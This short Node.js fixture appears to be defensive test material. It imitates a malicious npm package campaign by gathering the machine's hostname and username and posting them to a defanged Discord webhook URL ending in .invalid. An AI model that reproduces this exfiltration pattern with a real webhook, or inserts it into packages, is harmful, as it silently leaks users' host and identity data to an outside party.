// Mimics the 60-package Discord webhook swarm (catalog §2.24, §4.9): host data posted to a webhook.
// Defanged: the host ends in .invalid and the token is fake.
const os = require('os');
const https = require('https');
const payload = JSON.stringify({ content: `${os.hostname()} ${os.userInfo().username}` });
const req = https.request('https://discord.com.invalid/api/webhooks/0/FIXTURE-NOT-A-TOKEN', { method: 'POST' });
req.end(payload);
